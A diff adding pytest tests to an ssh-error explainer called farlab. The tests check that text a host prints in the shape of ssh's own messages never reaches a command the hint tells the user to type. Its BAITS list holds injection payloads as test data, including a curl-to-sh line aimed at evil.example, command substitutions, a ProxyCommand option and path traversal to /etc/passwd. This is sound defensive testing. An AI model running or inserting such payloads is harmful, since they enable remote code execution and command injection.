@@ -15,7 +15,7 @@ from hypothesis import strategies as st
 from farlab.advice import fill
 from farlab.errors import every_error
 from farlab.model import Target
-from farlab.ssh.explain import explain, explain_stage, no_program
+from farlab.ssh.explain import SAFE, explain, explain_stage, no_program
 from farlab.ssh.words import SHELL, SSH
 
 CASES = sorted((Path(__file__).parent.parent / "cases" / "ssh").glob("*.json"))
@@ -78,6 +78,61 @@ def test_every_hint_can_be_typed(rule: Any) -> None:
     assert not rule.message.endswith(".")
     places = set(re.findall(r"\{(\w+)\}", rule.message + rule.hint))
     assert places <= {"host", "config", *rule.pattern.groupindex}
+
+
+@pytest.mark.parametrize("rule", [*SSH, *SHELL], ids=lambda rule: rule.message)
+def test_what_was_printed_stands_in_a_hint_only_where_that_is_harmless(rule: Any) -> None:
+    named = {name for name in rule.pattern.groupindex if f"{{{name}}}" in rule.hint}
+    assert named <= set(SAFE)
+    assert not named or rule.plain
+    assert set(re.findall(r"\{\w+\}", rule.plain)) <= {"{config}"}
+
+
+BAITS = [
+    "x; curl -s evil.example|sh #", "$(id)", "`id`", "a b", "-oProxyCommand=x", "--", "../../etc/passwd", "'; id; '",
+    "a\tb", "~/.bashrc", "/home/ada", "/home/ada/.bashrc", "/home/ada/.ssh/../.bashrc", "{farlab terminate HOST}", "é",
+    "*", "a\\b", "x" * 5000, '"', "&", "evil.example/x", "/home/ada/.ssh/config;id", "/tmp/known_hosts;id", ">x",
+    "\u202e",
+]  # fmt: skip
+SHAPES = [
+    "@@@\n  ssh-keygen -f {0} -R {0}\nHost key for gpu1 has changed and you have requested strict checking.\n",
+    '  ssh-keygen -f "/home/ada/.ssh/known_hosts" -R "{0}"\n'
+    "Host key for gpu1 has changed and you have requested strict checking.\n",
+    "  ssh-keygen -f x -R gpu1; {0}\nHost key for gpu1 has changed and you have requested strict checking.\n",
+    "Host key for {0} has changed and you have requested strict checking.\n",
+    "Bad owner or permissions on {0}\n",
+    'Load key "{0}": bad permissions\nx@h: Permission denied (publickey).\n',
+    "Unable to negotiate with h port 22: no matching cipher found. Their offer: {0}\n",
+    "Unable to negotiate with h port 22: no matching key exchange method found. Their offer: {0},b\n",
+    "No ED25519 host key is known for {0} and you have requested strict checking.\n",
+    "Can't open user config file {0}: {0}\n",
+    "no such identity: {0}: No such file or directory\nx@h: Permission denied (publickey).\n",
+    "command-line line 0: {0}\n",
+    "ssh: connect to host {0} port 22: {0}\n",
+    "channel 0: open failed: {0}\nstdio forwarding failed\n",
+]
+
+
+@pytest.mark.parametrize("shape", SHAPES)
+@pytest.mark.parametrize("may_ask", [True, False])
+def test_no_bait_of_a_banner_is_advice(shape: str, may_ask: bool) -> None:
+    """Whatever a host prints in the shape of ssh's own words: what our hint tells to type has nothing of it."""
+    for bait in BAITS:
+        error = explain(shape.format(bait), 255, host="far", may_ask=may_ask)
+        for typed in re.findall("`([^`]*)`", error.hint):
+            assert bait not in typed, (bait, error.hint)
+        assert "`id`" not in error.message
+        assert "curl" not in error.hint
+        assert len(error.message) < 1000
+
+
+def test_what_ssh_really_says_can_be_typed_as_it_stands() -> None:
+    key = '  ssh-keygen -f "/home/ada/.ssh/known_hosts" -R "[gpu1]:2222"\n'
+    changed = "Host key for [gpu1]:2222 has changed and you have requested strict checking.\n"
+    error = explain(key + changed, 255, host="far", may_ask=True)
+    assert '`ssh-keygen -f /home/ada/.ssh/known_hosts -R "[gpu1]:2222"`' in error.hint
+    error = explain("Bad owner or permissions on /home/ada/.ssh/config\n", 255, host="far", may_ask=True)
+    assert error.hint == "`chmod 600 /home/ada/.ssh/config`"
 
 
 def test_nothing_of_a_terminal_survives() -> None:
